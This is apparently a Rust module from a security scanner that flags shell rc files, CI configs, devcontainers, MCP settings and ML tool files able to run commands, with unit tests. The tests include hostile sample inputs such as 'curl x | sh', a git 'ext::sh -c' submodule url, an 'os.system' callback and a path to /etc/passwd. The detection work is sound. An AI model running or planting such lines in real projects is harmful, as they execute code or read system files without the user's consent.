//! Files by which shells, editors, containers and builds run commands for whoever opens or enters a directory: told by
//! their names, whatever format they are in, and some by a word in them.

use super::rules;
use crate::{
    limits, outside,
    scan::{Content, Halt, Scan},
    text::Lines,
};

/// Names, in small letters. A star stands for anything.
const NAMES: &[&str] = &[
    ".bash_aliases",
    ".bash_login",
    ".bash_logout",
    ".bash_profile",
    ".bashrc",
    ".circleci/*",
    ".claude/*",
    ".cshrc",
    ".cursor/*",
    ".devcontainer.json",
    ".devcontainer/*",
    ".dir-locals.el",
    ".drone.yml",
    ".emacs",
    ".envrc",
    ".exrc",
    ".gdbinit",
    ".github/workflows/*",
    ".gitlab-ci.yml",
    ".husky/*",
    ".idea/*",
    ".inputrc",
    ".irbrc",
    ".kshrc",
    ".lldbinit",
    ".login",
    ".mcp.json",
    ".mise.toml",
    ".nvimrc",
    ".pre-commit-config.yaml",
    ".pre-commit-config.yml",
    ".pre-commit-hooks.yaml",
    ".profile",
    ".pryrc",
    ".pythonrc",
    ".rprofile",
    ".screenrc",
    ".tcshrc",
    ".tmux.conf",
    ".travis.yml",
    ".vimrc",
    ".vscode/launch.json",
    ".vscode/mcp.json",
    ".vscode/settings.json",
    ".vscode/tasks.json",
    ".xinitrc",
    ".xprofile",
    ".zlogin",
    ".zprofile",
    ".zshenv",
    ".zshrc",
    "appveyor.yml",
    "azure-pipelines.yml",
    "bentofile.yaml",
    "bentofile.yml",
    "bitbucket-pipelines.yml",
    "buildspec.yml",
    "cloudbuild.yaml",
    "cloudbuild.yml",
    "cog.yaml",
    "cog.yml",
    "compose.yaml",
    "compose.yml",
    "devcontainer.json",
    "docker-compose*.yaml",
    "docker-compose*.yml",
    "dvc.yaml",
    "earthfile",
    "flow.dag.yaml",
    "mcp.json",
    "mise.toml",
    "promptflow.yaml",
    "skaffold.yaml",
    "taskfile.yaml",
    "taskfile.yml",
    "tiltfile",
];

/// Names of files that run commands only with one of these words.
const WORDS: &[(&str, &[&str])] = &[
    // What is escaped may be any word.
    ("package.json", &["\"scripts\"", "\\u"]),
    ("tox.ini", &["commands", "allowlist_externals", "setenv"]),
    ("pytest.ini", &["-p ", "-p\t", "commands"]),
    ("setup.cfg", &["cmdclass", "commands", "addopts"]),
    (".gitmodules", &["ext::", "!", "file:"]),
    ("config.properties", &["install_py_dep_per_model"]),
    (".gitattributes", &["filter="]),
    ("modelfile", &["from", "adapter"]),
    // Functions that spaCy calls around what it does; its own are known.
    ("config.cfg", &["@callbacks", "@readers", "@loggers", "@augmenters", "@tokenizers"]),
    ("meta.json", &["git+", "@http", "@file:"]),
];

/// Tells of a file that makes tools run commands.
pub(crate) fn settings(content: &Content<'_>, scan: &mut Scan<'_>) -> Result<(), Halt> {
    let path = scan.name().replace('\\', "/").to_ascii_lowercase();
    let name = path.rsplit('/').next().unwrap_or_default().to_owned();
    if NAMES.iter().any(|known| is_called(&path, known)) {
        tell(0, &name, scan);
        return Ok(());
    }
    let Some((_, words)) = WORDS.iter().find(|(known, _)| *known == name) else { return Ok(()) };
    let Some(content) = content.again() else {
        // It can be read once only, and somebody else reads it.
        let head = String::from_utf8_lossy(content.head()).to_ascii_lowercase();
        if content.head().len() >= limits::HEAD || head.lines().any(|line| runs(&name, line, words)) {
            tell(0, &name, scan);
        }
        return Ok(());
    };
    let mut lines = Lines::new(content.into_stream());
    let mut found = None;
    while let Some(line) = lines.next(scan)? {
        let text = String::from_utf8_lossy(line.bytes).to_ascii_lowercase();
        if runs(&name, &text, words) {
            found = Some(line.at);
            break;
        }
    }
    if let Some(at) = found {
        tell(at, &name, scan);
    }
    Ok(())
}

fn tell(at: u64, name: &str, scan: &mut Scan<'_>) {
    let path = scan.name().to_owned();
    scan.contents.add_name(|contents| &mut contents.scripts, &path);
    scan.find(&rules::SETTINGS, at, format!("'{name}' makes a tool run commands"));
}

/// Whether a line of the file of this name has it run something.
fn runs(name: &str, line: &str, words: &[&str]) -> bool {
    let line = line.trim_start();
    match name {
        ".gitattributes" => {
            let filters = line.split_whitespace().filter_map(|word| word.strip_prefix("filter="));
            !line.starts_with('#') && filters.into_iter().any(|filter| filter != "lfs")
        }
        // Ollama takes files that these lines name.
        "modelfile" => words.iter().any(|word| {
            let path = line.strip_prefix(word).unwrap_or_default();
            path.starts_with([' ', '\t']) && outside::reaches(path.trim())
        }),
        "config.cfg" => words.iter().any(|word| {
            let value = line.strip_prefix(word).unwrap_or("spacy.");
            let value = value.trim_start_matches([' ', '\t', '=', '"', '\'']);
            !value.starts_with("spacy.") && !value.starts_with("spacy-")
        }),
        "meta.json" => {
            let compact: String = line.chars().filter(|c| !c.is_whitespace()).collect();
            words.iter().any(|word| compact.contains(word))
        }
        "config.properties" => words.iter().any(|word| line.contains(word)) && !line.ends_with("false"),
        _ => words.iter().any(|word| line.contains(word)),
    }
}

/// Whether the end of a path is what is known.
fn is_called(path: &str, known: &str) -> bool {
    let (parts, known_parts) = (path.rsplit('/'), known.rsplit('/'));
    let count = known_parts.clone().count();
    let same = |part: &str, known: &str| match known.split_once('*') {
        Some((start, end)) => {
            part.len() >= start.len() + end.len() && part.starts_with(start) && part.ends_with(end)
        }
        None => part == known,
    };
    if let Some(directory) = known.strip_suffix("/*") {
        return path.starts_with(&format!("{directory}/")) || path.contains(&format!("/{directory}/"));
    }
    parts.clone().count() >= count && parts.zip(known_parts).all(|(part, known)| same(part, known))
}

#[cfg(test)]
mod tests {
    use crate::testing::{look, rules_in};
    use modelseal_core::inspection::Verdict;

    #[test]
    fn files_that_make_tools_run_commands_are_suspicious() {
        for (name, text) in [
            (".envrc", "curl x | sh\n"),
            ("sub/.bashrc", "id\n"),
            (".profile", "id\n"),
            (".zshrc", "id\n"),
            ("package.json", r#"{"scripts": {"postinstall": "id"}}"#),
            ("package.json", r#"{"\u0073cripts": {"postinstall": "id"}}"#),
            ("docker-compose.yml", "services: {a: {command: id}}\n"),
            ("docker-compose.gpu.yaml", "services: {a: {command: id}}\n"),
            ("compose.yml", "services: {}\n"),
            (".devcontainer/devcontainer.json", r#"{"postCreateCommand": "id"}"#),
            ("a/.vscode/tasks.json", r#"{"tasks": []}"#),
            (".mcp.json", r#"{"mcpServers": {}}"#),
            ("dvc.yaml", "stages: {a: {cmd: id}}\n"),
            ("cog.yaml", "build: {run: [id]}\n"),
            ("bentofile.yaml", "service: x\n"),
            (".pre-commit-config.yaml", "repos: []\n"),
            (".github/workflows/x.yml", "on: push\n"),
            ("tox.ini", "[testenv]\ncommands = id\n"),
            ("pytest.ini", "[pytest]\naddopts = -p evil\n"),
            ("setup.cfg", "[build]\ncmdclass = x\n"),
            (".gitmodules", "[submodule \"x\"]\n\turl = ext::sh -c id\n"),
            (".gitmodules", "[submodule \"x\"]\n\tupdate = !id\n"),
            ("sub/.gitattributes", "* filter=evil\n"),
            ("Modelfile", "FROM ../../secret\n"),
            ("Modelfile", "FROM x\nADAPTER /etc/passwd\n"),
            ("config.properties", "install_py_dep_per_model=true\n"),
            ("config.cfg", "[initialize.before_init]\n@callbacks = \"os.system\"\n"),
            ("meta.json", r#"{"lang": "en", "requirements": ["evil @ https://example.com/x.whl"]}"#),
        ] {
            let found = look(name, text.as_bytes());
            assert!(rules_in(&found).contains(&"SRC009"), "{name}: {found:?}");
            assert!(found.verdict() >= Verdict::Suspicious, "{name}: {found:?}");
            assert!(found.contents.scripts.contains(name), "{name}");
        }
        let late = format!("{}[testenv]\ncommands = id\n", "# x\n".repeat(5000));
        assert!(rules_in(&look("tox.ini", late.as_bytes())).contains(&"SRC009"));
    }

    #[test]
    fn files_that_run_nothing_are_clean() {
        for (name, text) in [
            (".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n# filter=x\n"),
            (".gitmodules", "[submodule \"x\"]\n\turl = https://example.com/x\n"),
            ("Modelfile", "FROM ./model.gguf\nADAPTER ./lora.gguf\nPARAMETER temperature 1\n"),
            ("package.json", r#"{"name": "x", "version": "1.0.0"}"#),
            ("config.properties", "inference_address=x\ninstall_py_dep_per_model=false\n"),
            ("setup.cfg", "[metadata]\nname = x\n"),
            (".vscode/extensions.json", r#"{"recommendations": []}"#),
            ("profile.yaml", "a: b\n"),
            (
                "config.cfg",
                "[x]\n@architectures = \"spacy.X.v1\"\n@callbacks = \"spacy.copy_from_base_model.v1\"\n",
            ),
            ("meta.json", r#"{"lang": "en", "email": "a@example.com", "requirements": ["spacy>=3"]}"#),
        ] {
            let found = look(name, text.as_bytes());
            assert_eq!(found.verdict(), Verdict::Clean, "{name}: {found:?}");
        }
    }

    #[test]
    fn scripts_behind_a_mark_of_order_and_in_lists_of_paths_are_seen() {
        assert!(rules_in(&look("run.txt", "\u{feff}#!/bin/sh\nid\n".as_bytes())).contains(&"SRC004"));
        for text in ["import os; os.system('id')\n", "./x\nimport\tos\n"] {
            assert!(rules_in(&look("x.pth", text.as_bytes())).contains(&"SRC010"), "{text}");
        }
    }

    #[test]
    fn settings_of_git_name_programs_wherever_they_lie() {
        for text in ["[core]\n\tsshCommand = id\n", "[alias]\n\tst = !id\n", "[include]\n\tpath = ../x\n"] {
            assert!(rules_in(&look(".gitconfig", text.as_bytes())).contains(&"GIT002"), "{text}");
        }
    }
}
